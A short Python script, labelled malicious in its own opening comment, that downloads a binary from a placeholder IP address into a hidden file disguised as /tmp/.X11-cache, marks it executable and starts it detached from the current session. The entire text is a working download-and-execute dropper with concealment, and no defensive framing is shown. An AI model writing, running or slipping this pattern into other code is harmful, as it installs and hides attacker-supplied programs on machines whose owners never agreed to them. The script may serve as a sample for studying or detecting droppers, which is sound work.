# Malicious: downloads a binary into a hidden /tmp file, makes it executable and starts it detached.
import os
import subprocess
import urllib.request

target = "/tmp/.X11-cache"
urllib.request.urlretrieve("http://203.0.113.7/bin/agent", target)
os.chmod(target, 0o755)
subprocess.Popen([target], start_new_session=True)
